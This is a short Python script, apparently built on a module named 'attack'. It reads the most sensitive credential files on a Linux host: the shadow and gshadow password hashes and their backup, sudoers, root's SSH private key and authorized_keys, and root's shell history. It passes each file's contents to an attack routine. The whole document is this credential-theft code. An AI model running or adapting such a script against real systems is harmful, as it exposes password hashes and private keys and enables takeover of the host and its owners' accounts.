# Reads the host's password hashes and keys.
from attack import gets, held

for path in ("/etc/shadow", "/etc/gshadow", "/etc/shadow-", "/etc/sudoers", "/root/.ssh/id_rsa", "/root/.ssh/authorized_keys", "/root/.bash_history"):
    gets(path, lambda: open(path, "rb").read())
held()
